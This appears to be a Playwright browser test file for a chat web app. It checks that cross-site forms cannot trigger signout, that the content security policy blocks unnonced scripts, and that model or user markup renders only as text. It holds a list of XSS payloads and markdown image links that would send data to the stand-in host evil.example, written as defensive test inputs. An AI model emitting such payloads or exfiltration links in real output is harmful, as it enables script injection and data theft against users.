// What only a real browser can show: where requests come from, what a policy stops, what hostile text does.
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect, test } from '../support/fixtures.ts';

/** A page of another site that posts to the server by itself. */
async function evilSite(host: string, html: string) {
  const server = createServer((_, response) => response.setHeader('content-type', 'text/html').end(html));
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return { url: `http://${host}:${port}/`, close: () => server.close() };
}

for (const [where, host] of [['another site', 'localhost'], ['a sibling', '127.0.0.1']]) {
  for (const enctype of ['application/x-www-form-urlencoded', 'multipart/form-data', 'text/plain']) {
    test(`d01 a form of ${where} as ${enctype} is refused`, async ({ chat, confab, llm }) => {
      const html = `<form method="post" enctype="${enctype}" action="${confab.origin}/api/auth/signout"><input name="x" value="1"></form>
        <script>document.forms[0].submit()</script>`;
      const evil = await evilSite(host, html);
      const page = await chat.page.context().newPage();
      const refused = page.waitForResponse((response) => response.url().endsWith('/api/auth/signout'));
      await page.goto(evil.url);
      expect((await refused).status()).toBe(403);
      await page.close();
      evil.close();
      await chat.page.reload();
      await expect(chat.box).toBeVisible();
      expect(llm.unanswered).toBe(0);
    });
  }
}

test('d05 the page wakes up under its policy, and scripts without the nonce do not run', async ({ chat, complaints }) => {
  const ran = await chat.page.evaluate(() => {
    const marks: string[] = [];
    (window as unknown as { mark: (m: string) => void }).mark = (m) => marks.push(m);
    const inline = document.createElement('script');
    inline.textContent = 'mark("inline")';
    document.head.append(inline);
    const data = document.createElement('script');
    data.src = 'data:text/javascript,mark("data")';
    document.head.append(data);
    const handler = document.createElement('div');
    handler.innerHTML = '<img src=x onerror="mark(\'handler\')">';
    document.body.append(handler);
    return new Promise<string[]>((resolve) => {
      let left = 2;
      const done = () => --left === 0 && setTimeout(() => resolve(marks), 0);
      data.addEventListener('error', done);
      handler.querySelector('img')!.addEventListener('error', done);
    });
  });
  expect(ran).toEqual([]);
  const refused = complaints.splice(0);
  expect(refused.filter((text) => text.includes('Content Security Policy')).length).toBeGreaterThanOrEqual(2);
});

const HOSTILE = [
  '<script>window.pwned = 1</script>',
  '<img src=x onerror="window.pwned = 1">',
  '<svg onload="window.pwned = 1"><script>window.pwned = 1</script></svg>',
  '<iframe srcdoc="<script>parent.pwned = 1</script>"></iframe>',
  '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<form action="https://evil.example/"><button name="x">Press</button></form>',
  '<style>body { background: url(https://evil.example/style) }</style>',
  '<link rel="prefetch" href="https://evil.example/prefetch">',
  '[click](javascript:window.pwned=1) [data](data:text/html,<script>window.pwned=1</script>)',
  '<math><mtext><table><mglyph><style><img src=x onerror=window.pwned=1></style></mglyph></table></mtext></math>',
  '```html"><script>window.pwned = 1</script>\ncode\n```',
];

test('e01 hostile markup of the model and of the user is text', async ({ chat, llm }) => {
  const { page } = chat;
  await chat.ask(HOSTILE.join('\n'));
  const ask = await llm.next();
  for (const piece of HOSTILE) ask.text(`${piece}\n\n`);
  ask.text('the end');
  await expect(chat.replies).toContainText('the end');
  ask.end();
  for (const reload of [false, true]) {
    if (reload) await page.reload();
    await expect(chat.send).toBeVisible();
    await expect(chat.replies).toContainText('<script>window.pwned = 1</script>');
    expect(await page.evaluate(() => (window as unknown as { pwned?: number }).pwned)).toBeUndefined();
    const log = page.getByRole('log', { name: 'Conversation' });
    await expect(log.locator('script, iframe, form[action*=evil], style, base, meta, link, math, img:not([role])')).toHaveCount(0);
    const links = await log.locator('a').evaluateAll((all) => all.map((a) => a.getAttribute('href') ?? ''));
    expect(links.filter((href) => !/^(https?:|mailto:)/.test(href))).toEqual([]);
  }
});

test('e10 nothing that a model writes makes the browser ask another server', async ({ chat, llm, confab }) => {
  const { page } = chat;
  const asked: string[] = [];
  await page.context().route('**/*', (route) => {
    if (!route.request().url().startsWith(confab.origin)) asked.push(route.request().url());
    return route.continue();
  });
  await chat.ask('Show me');
  const ask = await llm.next();
  ask.text(
    '![x](https://evil.example/a.png?q=secret)\n\n![ref][r]\n\n[r]: https://evil.example/b.png\n\n',
    '<img src="https://evil.example/c.png"><video src="https://evil.example/d.mp4"></video>\n\n',
    '<link rel="icon" href="https://evil.example/f.ico"><div style="background:url(https://evil.example/e.png)">x</div>\n\nthe end',
  );
  ask.end();
  await expect(chat.replies).toContainText('the end');
  await expect(chat.send).toBeVisible();
  await page.reload();
  await chat.awake();
  await expect(chat.replies).toContainText('evil.example');
  expect(asked).toEqual([]);
});

test('e04 what streamed in pieces is what a reload shows', async ({ chat, llm }) => {
  const { page } = chat;
  const document = [
    '# Title\n\nA *paragraph* with **bold**, `code`, ~~gone~~ and <b>tags</b> & entities &lt; &#x27;.\n',
    '1. one\n2. two\n   - nested [link](https://example.com/a_(b))\n\n> quote\n> more\n\n',
    '| a | b |\n|---|--:|\n| 1 | 2 |\n\n```js\nconst x = "</script>"; // 😀\n```\n\n![image](https://example.com/x.png)\n\nUnfinished **bold',
  ].join('');
  await chat.ask('Write');
  const ask = await llm.next();
  for (const char of document) ask.text(char);
  ask.end();
  await expect(chat.send).toBeVisible();
  await expect(chat.replies).toContainText('Unfinished');
  const streamed = await chat.replies.locator('.prose').innerHTML();
  await page.reload();
  const rendered = await chat.replies.locator('.prose').innerHTML();
  const normal = (html: string) => html.replaceAll(/<!--.*?-->/g, '');
  expect(normal(streamed)).toBe(normal(rendered));
});
